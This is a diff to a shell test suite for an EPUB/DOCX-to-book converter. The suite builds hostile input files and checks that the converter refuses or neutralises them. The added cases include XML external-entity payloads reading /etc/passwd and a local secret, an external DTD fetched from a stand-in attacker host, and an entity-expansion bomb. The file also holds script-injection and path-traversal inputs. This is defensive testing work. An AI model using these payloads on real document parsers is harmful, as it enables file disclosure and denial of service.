@@ -6,7 +6,7 @@ set -eu
 # shellcheck source=/dev/null
 . "$SOURCE_DIR/tests/attacks/lib.sh"
 make_archive=$(dirname "$BRIEFBOOK")/tests/make-archive
-attacks=0 refused=0
+attacks=0 refused=0 names=
 sources=()
 sentence='Một đoạn văn bình thường, đủ dài để người đọc nhận ra đây là bài thật chứ không phải thứ gì khác.'
 echo 'zzmat: nothing of this file may be in a book' >secret.txt
@@ -20,6 +20,7 @@ take() {
     else
         grep -q 'error: ' one.err || fail "$1: refused without a word"
         refused=$((refused + 1))
+        names="$names $1"
     fi
 }
 
@@ -109,7 +110,7 @@ book() {
     printf '%s<package xmlns="http://www.idpf.org/2007/opf" xmlns:dc="http://purl.org/dc/elements/1.1/"><metadata><dc:title>%s</dc:title></metadata><manifest><item id="a" href="a.xhtml" media-type="application/xhtml+xml" properties="scripted remote-resources"/>%s</manifest><spine><itemref idref="a"/><itemref idref="b"/></spine></package>' \
         "${before:-}" "${title:-Sách}" "${3:-}" >OPS/p.opf
     printf '%s<html xmlns="http://www.w3.org/1999/xhtml" xmlns:epub="e"><head><title>Bài</title>%s</head><body><h1>Bài %s</h1><p>%s</p>%s<p>%s</p></body></html>' \
-        "${before:-}" "${head:-}" "$1" "$sentence" "$2" "$sentence" >OPS/a.xhtml
+        "${before_page:-}" "${head:-}" "$1" "$sentence" "$2" "$sentence" >OPS/a.xhtml
     # shellcheck disable=SC2086 # a word for each part
     "$make_archive" "in/$1.epub" mimetype META-INF/container.xml OPS/p.opf OPS/a.xhtml ${parts:-}
     take "in/$1.epub"
@@ -124,7 +125,9 @@ book formula '<math xmlns="http://www.w3.org/1998/Math/MathML"><maction actionty
 book switch '<epub:switch><epub:case required-namespace="x"><script>alert(1)</script></epub:case></epub:switch><epub:trigger action="play" ref="x"/>'
 book form '<form action="https://attack.example/"><input type="password" autofocus="" onfocus="alert(1)"/><button formaction="javascript:alert(1)">Gửi</button></form>'
 head='<style>@import url(https://attack.example/a.css); p{background:url(//attack.example/b.png);behavior:url(x)}</style><link rel="stylesheet" href="https://attack.example/c.css"/><meta http-equiv="refresh" content="0;url=javascript:alert(1)"/><base href="https://attack.example/"/>' book style '<p style="background:url(https://attack.example/d.png)">x</p>'
-before='<!DOCTYPE html [<!ENTITY e SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "https://attack.example/a.dtd">%p;]>' book entity '<p>&e;</p>'
+before='<!DOCTYPE html [<!ENTITY e SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "https://attack.example/a.dtd">%p;]>' book entity '<p>x</p>'
+before_page='<!DOCTYPE html [<!ENTITY e SYSTEM "file:///etc/passwd"><!ENTITY f SYSTEM "../secret.txt"><!ENTITY % p SYSTEM "https://attack.example/a.dtd">%p;]>' book entity-page '<p>&e;&f;</p>'
+before_page='<!DOCTYPE html [<!ENTITY a "zzgrow zzgrow "><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>' book lol-page '<p>&c;&c;</p>'
 title='&lt;/dc:title&gt;&lt;meta refines="x"/&gt;' book title '<p>x</p>'
 root=../../../../etc/passwd book root '<p>x</p>'
 root=/etc/passwd book absolute '<p>x</p>'
@@ -140,13 +143,15 @@ build all "${sources[@]}"
 check_book all
 unzip -qo all.epub -d all.x
 pdftotext -enc UTF-8 all.pdf all.txt
-if grep -raElq 'zzmat|zzmacro|root:x:' all.x all.txt all.pdf; then
-    fail "a file that an article names is in the book: $(grep -raEl 'zzmat|zzmacro|root:x:' all.x all.txt all.pdf | head -3)"
+if grep -raElq 'zzmat|zzmacro|zzgrow|root:x:' all.x all.txt all.pdf; then
+    fail "a file that an article names is in the book: $(grep -raEl 'zzmat|zzmacro|zzgrow|root:x:' all.x all.txt all.pdf | head -3)"
 fi
 for escaped in escaped.txt ../escaped.txt ../../escaped.txt /tmp/briefbook-attack pwned; do
     [ ! -e "$escaped" ] || fail "$escaped was written"
 done
 echo "$attacks attacks, $refused of them refused"
-[ "$refused" -le 12 ] || fail "$refused are refused"
+# A package and a document of Word may have no entities of their own, a name may stand in an archive once, and a package has
+# to be in it: what else is refused would have hidden its attack.
+[ "$names" = ' in/entity.docx in/lol.docx in/twice.docx in/entity.epub in/root.epub in/absolute.epub' ] || fail "refused:$names"
 [ "$attacks" -ge 60 ] || fail "only $attacks attacks"
 done_with_book
